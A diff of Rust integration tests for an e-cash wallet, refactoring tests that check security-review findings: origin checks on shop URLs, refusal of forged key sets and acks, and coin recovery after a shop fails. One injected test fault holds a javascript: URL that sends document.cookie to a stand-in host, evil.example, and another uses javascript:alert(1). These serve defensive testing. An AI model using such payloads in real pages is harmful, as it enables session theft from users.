@@ -6,8 +6,6 @@
 
 mod common;
 
-use std::time::Duration;
-
 use common::*;
 use ecash_core::keyset::RsaPublicKeyData;
 use ecash_core::messages::PayReq;
@@ -40,15 +38,18 @@ async fn f1_shop_urls_must_stay_on_the_origin_of_the_request() {
         ("pay_url", "http://203.0.113.7/pay"),
     ] {
         let order = mint.order("haiku").await;
-        let url = format!("{}/shop/api/orders/{}", mint.url, order.payreq.payreq_id);
+        let url = mint.payreq_url(&order.payreq.payreq_id);
         let v = value.to_owned();
         w.transport().inject(
-            "/shop/api/orders/",
+            "/api/orders/",
             Fault::Tamper(Box::new(move |j| j[field] = serde_json::json!(v))),
             1,
         );
         let offer = w.resolve_payreq(&url).await.expect("fetched");
-        assert_eq!(offer.origin, mint.url, "the origin it was fetched from");
+        assert_eq!(
+            offer.origin, mint.shop_url,
+            "the origin it was fetched from"
+        );
         let e = w.check_payreq(&offer).expect_err(value);
         assert_eq!(e.code(), "payreq_invalid", "{e}");
         let e = w.pay(offer).await.expect_err(value);
@@ -70,7 +71,7 @@ async fn f1_shop_urls_must_stay_on_the_origin_of_the_request() {
         .resolve_payreq(&serde_json::to_string(&order.payreq).expect("json"))
         .await
         .expect("json payreq");
-    assert_eq!(o.origin, mint.url);
+    assert_eq!(o.origin, mint.shop_url);
     // A link that is not http(s) is never fetched.
     for bad in [
         "javascript:alert(1)",
@@ -84,7 +85,7 @@ async fn f1_shop_urls_must_stay_on_the_origin_of_the_request() {
     // The shop answers the payment with a script URL: the payment stands
     // (the receipt verifies), but the wallet keeps no link and says why.
     w.transport().inject(
-        "/shop/api/pay/",
+        "/api/pay/",
         Fault::Tamper(Box::new(|j| {
             j["fulfillment_url"] =
                 serde_json::json!("javascript:fetch('//evil.example/?'+document.cookie)")
@@ -107,7 +108,7 @@ async fn f1_shop_urls_must_stay_on_the_origin_of_the_request() {
     let done = w.pay(mint.order("haiku").await).await.expect("paid");
     let link = done.goods_link().expect("link");
     assert!(
-        link.starts_with(&format!("{}/shop/fulfillment/", mint.url)),
+        link.starts_with(&format!("{}/fulfillment/", mint.shop_url)),
         "{link}"
     );
     assert!(
@@ -116,7 +117,7 @@ async fn f1_shop_urls_must_stay_on_the_origin_of_the_request() {
     );
     for h in w.history() {
         if let Some(l) = h.event.goods_link() {
-            assert!(l.starts_with(&mint.url), "{l}");
+            assert!(l.starts_with(&mint.shop_url), "{l}");
         }
     }
 }
@@ -146,7 +147,7 @@ async fn f2_the_wallet_never_shows_the_bank_its_coins() {
     drop(w);
 
     // What a wallet does on every start.
-    let mut w = reopen(&path).await;
+    let mut w = reopen(&mint, &path).await;
     w.recover().await.expect("recover");
     let asked = w.transport().requests.borrow().clone();
     assert!(
@@ -164,7 +165,7 @@ async fn f2_the_wallet_never_shows_the_bank_its_coins() {
         &mint.url,
         None,
         &phrase,
-        settings(),
+        mint.settings(),
         None,
     )
     .await
@@ -186,14 +187,13 @@ async fn f2_the_wallet_never_shows_the_bank_its_coins() {
 /// The key set the mint serves, re-signed with its master key after `edit`.
 async fn forged_key_set(mint: &Mint, edit: impl FnOnce(&mut KeySet)) -> serde_json::Value {
     let secret =
-        std::fs::read_to_string(mint.dir.path().join("keys/master.key")).expect("master key");
+        std::fs::read_to_string(mint.bank.dir.path().join("keys/master.key")).expect("master key");
     let master = Keypair::from_secret_bytes(&B32::from_b64(secret.trim()).expect("b64").0);
-    let signed: SignedKeySet = reqwest::get(format!("{}/keys", mint.url))
-        .await
-        .expect("keys")
-        .json()
-        .await
-        .expect("key set");
+    let bank = ecash_core::client::BankClient::new(
+        &mint.url,
+        wallet_wasm::transport::ReqwestTransport::new().expect("http"),
+    );
+    let signed: SignedKeySet = bank.keys().await.expect("key set");
     let mut set = signed.body;
     edit(&mut set);
     serde_json::to_value(Signed::sign(set, &master)).expect("json")
@@ -219,7 +219,7 @@ async fn f5_a_key_made_for_one_wallet_is_refused() {
     let dir = tempfile::tempdir().expect("tmp");
     let (mut w, _) = funded(&mint, dir.path(), "target", 1000).await;
     let honest: Vec<B32> = w.key_set().keys.keys().copied().collect();
-    let now = wallet_wasm::platform::now();
+    let now = mint.now();
     let current = move |d: &[DenominationKey]| {
         d.iter()
             .find(|k| k.value.value == 1 && k.can_withdraw(now))
@@ -311,7 +311,7 @@ async fn f7_a_payment_to_a_vanished_shop_is_settled_after_expiry() {
     let store = wallet_wasm::store::sqlite::SqliteStore::open(&path).expect("store");
     let s = wallet_wasm::WalletSettings {
         payment_grace_secs: 1,
-        ..settings()
+        ..mint.settings()
     };
     let (mut w, _) = Wallet::create(store, Flaky::new(), &mint.url, None, s)
         .await
@@ -322,8 +322,7 @@ async fn f7_a_payment_to_a_vanished_shop_is_settled_after_expiry() {
     // The shop is gone before it sees the payment.
     let offer = mint.order("coffee").await;
     let expires = offer.payreq.expires_at;
-    w.transport()
-        .inject("/shop/api/pay/", Fault::CutBefore, 1000);
+    w.transport().inject("/api/pay/", Fault::CutBefore, 1000);
     let e = w.pay(offer).await.expect_err("shop gone");
     assert_eq!(e.code(), "interrupted");
     assert_eq!(w.balance().reserved, 300);
@@ -338,16 +337,13 @@ async fn f7_a_payment_to_a_vanished_shop_is_settled_after_expiry() {
     let offer2 = mint.order("haiku").await;
     let expires = expires.max(offer2.payreq.expires_at);
     w.transport().clear();
-    w.transport().inject("/shop/api/pay/", Fault::DropAnswer, 1);
+    w.transport().inject("/api/pay/", Fault::DropAnswer, 1);
     let e = w.pay(offer2).await.expect_err("answer lost");
     assert_eq!(e.code(), "interrupted");
-    w.transport()
-        .inject("/shop/api/pay/", Fault::CutBefore, 1000);
+    w.transport().inject("/api/pay/", Fault::CutBefore, 1000);
 
-    let wait = expires
-        .saturating_add(2)
-        .saturating_sub(wallet_wasm::platform::now());
-    tokio::time::sleep(Duration::from_secs(wait + 1)).await;
+    let wait = expires.saturating_add(2).saturating_sub(mint.now());
+    mint.advance(wait + 1);
     let r = w.recover().await.expect("recover");
     assert_eq!(r.resumed, 2, "{r:?}");
     assert!(w.pending().is_empty(), "{:?}", w.pending());
@@ -376,7 +372,7 @@ async fn payer(mint: &Mint, dir: &std::path::Path) -> NativeWallet {
         wallet_wasm::store::sqlite::SqliteStore::open(&dir.join("payer.db")).expect("store");
     let s = wallet_wasm::WalletSettings {
         payment_grace_secs: 1,
-        ..settings()
+        ..mint.settings()
     };
     let (mut w, _) = Wallet::create(store, Flaky::new(), &mint.url, None, s)
         .await
@@ -394,12 +390,12 @@ async fn deposit_as_the_shop(mint: &Mint, w: &NativeWallet) {
         .borrow()
         .iter()
         .rev()
-        .find(|(u, _)| u.contains("/shop/api/pay/"))
+        .find(|(u, _)| u.contains("/api/pay/"))
         .map(|(_, b)| b.clone())
         .expect("a payment was posted");
     let payment: ecash_core::messages::Payment = serde_json::from_str(&body).expect("payment");
     let secret =
-        std::fs::read_to_string(mint.dir.path().join("shop/merchant.key")).expect("shop key");
+        std::fs::read_to_string(mint.shop.dir.path().join("merchant.key")).expect("shop key");
     let key = Keypair::from_secret_bytes(&B32::from_b64(secret.trim()).expect("b64").0);
     let deposit = Signed::sign(
         ecash_core::messages::Deposit {
@@ -408,13 +404,11 @@ async fn deposit_as_the_shop(mint: &Mint, w: &NativeWallet) {
         },
         &key,
     );
-    let r = reqwest::Client::new()
-        .post(format!("{}/deposit", mint.url))
-        .json(&deposit)
-        .send()
-        .await
-        .expect("deposit");
-    assert_eq!(r.status().as_u16(), 200, "{:?}", r.text().await);
+    let bank = ecash_core::client::BankClient::new(
+        &mint.url,
+        wallet_wasm::transport::ReqwestTransport::new().expect("http"),
+    );
+    bank.deposit(&deposit).await.expect("deposited at the bank");
 }
 
 /// Finding 7 (outside review): a shop that refuses a payment, and deposits
@@ -430,7 +424,7 @@ async fn f7_a_shop_that_refuses_then_deposits_leaves_the_payer_its_proof() {
     let offer = mint.order("coffee").await;
     let refusal = br#"{"code":"order_taken","message":"already paid; your coins were not taken"}"#;
     w.transport()
-        .inject("/shop/api/pay/", Fault::Refuse(409, refusal.to_vec()), 1);
+        .inject("/api/pay/", Fault::Refuse(409, refusal.to_vec()), 1);
     // The reclaim is cut before it reaches the bank; the shop deposits meanwhile.
     w.transport().inject("/exchange", Fault::CutBefore, 1);
     let e = w.pay(offer).await.expect_err("refused");
@@ -462,14 +456,14 @@ async fn f7_a_hostile_answer_or_endless_request_cannot_hold_the_coins() {
     let mut w = payer(&mint, dir.path()).await;
     // A request valid for ten years: refused before paying.
     let mut far = mint.order("haiku").await;
-    far.payreq.expires_at = wallet_wasm::platform::now() + 10 * 365 * 24 * 3600;
+    far.payreq.expires_at = mint.now() + 10 * 365 * 24 * 3600;
     let e = w.pay(far).await.expect_err("endless request");
     assert_eq!(e.code(), "payreq_invalid", "{e}");
     // The shop deposits, then answers with a forged ack, again and again.
     let offer = mint.order("haiku").await;
     let expires = offer.payreq.expires_at;
     w.transport().inject(
-        "/shop/api/pay/",
+        "/api/pay/",
         Fault::Tamper(Box::new(|j| {
             j["deposit_ack"]["signature"] = serde_json::json!("AAAA")
         })),
@@ -477,10 +471,8 @@ async fn f7_a_hostile_answer_or_endless_request_cannot_hold_the_coins() {
     );
     let e = w.pay(offer).await.expect_err("no valid ack");
     assert_eq!(e.code(), "interrupted", "{e}");
-    let wait = expires
-        .saturating_add(2)
-        .saturating_sub(wallet_wasm::platform::now());
-    tokio::time::sleep(Duration::from_secs(wait + 1)).await;
+    let wait = expires.saturating_add(2).saturating_sub(mint.now());
+    mint.advance(wait + 1);
     let before = w.transport().requests.borrow().len();
     w.recover().await.expect("recover");
     assert!(w.pending().is_empty(), "{:?}", w.pending());
@@ -493,7 +485,7 @@ async fn f7_a_hostile_answer_or_endless_request_cannot_hold_the_coins() {
     w.recover().await.expect("recover again");
     let calls = w.transport().requests.borrow()[before..]
         .iter()
-        .filter(|u| u.contains("/shop/api/pay/"))
+        .filter(|u| u.contains("/api/pay/"))
         .count();
     assert_eq!(calls, 1, "the shop is called once more, then never");
 }
@@ -527,7 +519,7 @@ async fn f7_a_refused_reclaim_is_renewed_not_dropped() {
     let offer = mint.order("coffee").await;
     let refusal = br#"{"code":"order_taken","message":"paid already"}"#;
     w.transport()
-        .inject("/shop/api/pay/", Fault::Refuse(409, refusal.to_vec()), 1);
+        .inject("/api/pay/", Fault::Refuse(409, refusal.to_vec()), 1);
     let expired = br#"{"code":"key_expired","message":"key does not sign new coins now"}"#;
     w.transport()
         .inject("/exchange", Fault::Refuse(410, expired.to_vec()), 1);
@@ -569,7 +561,7 @@ async fn a_wallet_with_a_key_set_of_the_old_format_opens() {
         .await
         .expect("write");
     drop(store);
-    let mut w = reopen(&path).await;
+    let mut w = reopen(&mint, &path).await;
     w.withdraw(10, None)
         .await
         .expect("withdraw after reopening");
